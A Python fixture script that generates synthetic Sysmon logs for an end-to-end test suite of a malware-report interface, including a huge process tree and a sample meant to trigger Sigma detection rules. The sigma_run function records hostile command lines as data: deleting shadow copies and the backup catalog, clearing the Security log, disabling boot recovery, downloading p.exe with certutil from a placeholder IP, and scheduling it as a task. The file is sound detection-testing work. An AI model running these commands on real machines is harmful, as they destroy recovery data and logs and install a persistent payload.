"""Sysmon logs the browser suite adds to the e2e fixtures (tests/vt/sysmon_fixtures.py, whose
log writer it reuses):

* one sample whose process tree has 20,001 processes: the sample starts 400 children, each of
  which starts 49 more (its page must show a first screen quickly and say what it has not
  drawn yet);
* one sample that deletes shadow copies with vssadmin and clears logs with wevtutil, so the
  bundled SigmaHQ rules hit at several levels (the Sigma and ATT&CK panels).

* with a second folder, logs the suite uploads while it runs, so a Livehunt ruleset made in the
  UI sees new reports: two more ransomware runs (the e2e fixtures' tutanota runs 7 and 8) and
  the Sigma sample's behaviour under another SHA-256.

Run as a script: `python3 fixtures.py OUT_DIR [LATE_DIR]` writes the logs and prints their
SHA-256s.
"""

import json
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "vt"))
from sysmon_fixtures import EXPLORER, EXPLORER_GUID, Log, sha256_of, tutanota_run  # noqa: E402

CHILDREN = 400
GRANDCHILDREN = 49


def big_tree_run():
    sha = sha256_of("big-tree")
    log = Log("LAB-WIN10-BIG", 3600 * 24 * 7)
    user = "LAB\\dave"
    sample = "C:\\Users\\dave\\Downloads\\spawner.exe"
    root_guid = "{9f3c1a2b-0000-6630-0000-0000000f0000}"
    log.process(root_guid, 7000, sample, f'"{sample}"', EXPLORER_GUID, 2888, EXPLORER, EXPLORER,
                sha, user)
    worker = "C:\\Users\\dave\\AppData\\Local\\Temp\\worker.exe"
    children = []
    pid = 10000
    for c in range(CHILDREN):
        pid += 4
        child_guid = "{9f3c1a2b-%04x-6631-0000-%012x}" % (c, c)
        children.append((child_guid, pid))
        log.process(child_guid, pid, worker, f'"{worker}" --shard {c}', root_guid, 7000,
                    sample, f'"{sample}"', sha256_of("worker"), user)
    # All children first, then their children: a report builder that keeps the first 10,000
    # processes keeps every child of the sample.
    for c, (child_guid, child_pid) in enumerate(children):
        for g in range(GRANDCHILDREN):
            pid += 4
            log.process("{9f3c1a2b-%04x-6632-%04x-%012x}" % (c, g, pid), pid, worker,
                        f'"{worker}" --shard {c} --task {g}', child_guid, child_pid, worker,
                        f'"{worker}" --shard {c}', sha256_of("worker"), user)
    return sha, log


def sigma_run(name="sigma-levels"):
    sha = sha256_of(name)
    log = Log("LAB-WIN10-SIG", 3600 * 24 * 8)
    user = "LAB\\erin"
    sample = "C:\\Users\\erin\\Downloads\\wiper.exe"
    root = "{9f3c1a2b-0000-6633-0000-0000000f0001}"
    log.process(root, 8000, sample, f'"{sample}"', EXPLORER_GUID, 2888, EXPLORER, EXPLORER, sha,
                user)
    tools = [
        ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security"),
        ("C:\\Windows\\System32\\bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
        ("C:\\Windows\\System32\\wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
        ("C:\\Windows\\System32\\whoami.exe", "whoami.exe /all"),
        ("C:\\Windows\\System32\\net.exe", "net.exe user /domain"),
        ("C:\\Windows\\System32\\certutil.exe",
         "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe"),
        ("C:\\Windows\\System32\\schtasks.exe",
         'schtasks.exe /create /sc minute /tn "Updater" /tr "C:\\Users\\Public\\p.exe"'),
    ]
    for n, (image, command) in enumerate(tools):
        log.process("{9f3c1a2b-0000-6633-0000-%012x}" % (n + 1), 8100 + n, image, command, root,
                    8000, sample, f'"{sample}"', sha256_of(image), user)
    return sha, log


if __name__ == "__main__":
    if len(sys.argv) not in (2, 3):
        sys.exit("usage: fixtures.py OUT_DIR [LATE_DIR]")
    out = pathlib.Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    manifest = {}
    for name, run in (("big_tree", big_tree_run), ("sigma", sigma_run)):
        sha, log = run()
        (out / f"{name.replace('_', '-')}.xml").write_text(log.xml(), encoding="utf-8")
        manifest[name] = sha
    if len(sys.argv) == 3:
        late = pathlib.Path(sys.argv[2])
        late.mkdir(parents=True, exist_ok=True)
        manifest["late"] = {}
        for n in (7, 8):
            sha, log = tutanota_run(n)
            path = late / f"tutanota-{n}.xml"
            path.write_text(log.xml(), encoding="utf-8")
            manifest["late"][str(path)] = sha
        sha, log = sigma_run("sigma-levels-late")
        path = late / "sigma-late.xml"
        path.write_text(log.xml(), encoding="utf-8")
        manifest["late"][str(path)] = sha
    print(json.dumps(manifest))
